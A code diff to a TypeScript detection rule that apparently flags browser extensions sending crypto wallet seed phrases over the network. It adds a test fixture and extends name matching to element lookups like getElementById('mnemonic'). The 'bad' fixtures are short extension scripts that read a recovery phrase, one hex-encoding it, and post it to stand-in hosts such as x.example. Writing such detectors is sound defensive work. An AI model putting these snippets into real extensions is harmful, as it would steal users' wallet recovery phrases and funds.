@@ -1,4 +1,4 @@
-import { nameOf, Op, readsNamed, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { constant, listOf, nameOf, Op, readsNamed, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts } from './checkScripts.ts';
 import { mentions } from './network.ts';
@@ -42,6 +42,7 @@ export const walletPhraseSent = defineRule({
     bad: [
       { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>', 'p.js': 'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });' } },
       { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>', 'p.js': 'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));' } },
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<textarea id="mnemonic"></textarea><script src="p.js"></script>', 'p.js': 'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };' } },
     ],
     good: [
       { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>', 'p.js': 'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });' } },
@@ -51,7 +52,12 @@ export const walletPhraseSent = defineRule({
 });
 
 function isPhrase(script: ScriptFacts, value: number): boolean {
-  return PHRASE.test(nameOf(script, value));
+  if (PHRASE.test(nameOf(script, value))) return true;
+  // `document.getElementById('mnemonic')`, `querySelector('#seed-phrase')`
+  const made = resolve(script, value);
+  if (script.op[made] !== Op.call || !/^(getElementById|querySelector|\$)$/.test(nameOf(script, script.a[made] as number))) return false;
+  const words = (constant(script, listOf(script, script.b[made] as number)[0] ?? 0) ?? '').match(/[\w-]+/g) ?? [];
+  return words.some((word) => PHRASE.test(word.replaceAll('-', '_')));
 }
 
 /** Values of variables that bear such a name and are made of more than a number. */
